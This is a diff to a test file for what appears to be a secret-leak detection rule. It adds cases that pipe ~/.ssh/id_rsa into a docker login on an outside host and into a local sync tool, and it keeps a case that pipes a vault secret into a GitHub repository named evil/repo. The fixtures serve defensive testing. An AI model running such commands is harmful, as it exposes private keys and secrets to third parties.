@@ -49,6 +49,16 @@ ruleCases(keyFiles, {
       severity: 'medium',
     },
     {
+      name: 'a key file at the login of any host',
+      path: 'a.sh',
+      text: 'cat ~/.ssh/id_rsa | docker login up.acme.test -u a --password-stdin\n',
+    },
+    {
+      name: 'a token in the input of its own program',
+      path: 'a.sh',
+      text: 'cat ~/.ssh/id_rsa | ./sync --token-stdin\n',
+    },
+    {
       name: 'a secret that becomes one of another repository',
       path: 'a.sh',
       text: 'vault kv get -field=p secret/x | gh secret set P -R evil/repo\n',
